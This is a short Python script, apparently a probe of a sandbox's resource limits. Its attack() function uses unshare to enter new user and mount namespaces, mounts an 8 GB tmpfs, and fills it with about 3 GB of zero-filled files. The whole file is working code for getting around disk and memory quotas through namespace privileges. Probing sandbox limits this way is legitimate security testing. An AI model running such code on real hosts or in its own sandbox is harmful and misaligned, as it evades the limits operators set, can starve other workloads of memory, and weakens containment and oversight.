"""Becomes root in namespaces of its own, and has a disk there without any limit."""

import ctypes
import os

NEW_USER, NEW_MOUNT = 0x10000000, 0x00020000


def attack() -> bool:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(NEW_USER | NEW_MOUNT):
        raise OSError(ctypes.get_errno(), "no namespaces")
    os.makedirs("disk")
    if libc.mount(b"x", b"disk", b"tmpfs", 0, b"size=8g"):
        raise OSError(ctypes.get_errno(), "no disk")
    os.chdir("disk")
    for number in range(200):
        with open(f"{number}", "wb") as file:
            file.write(bytes(15 << 20))
    return True
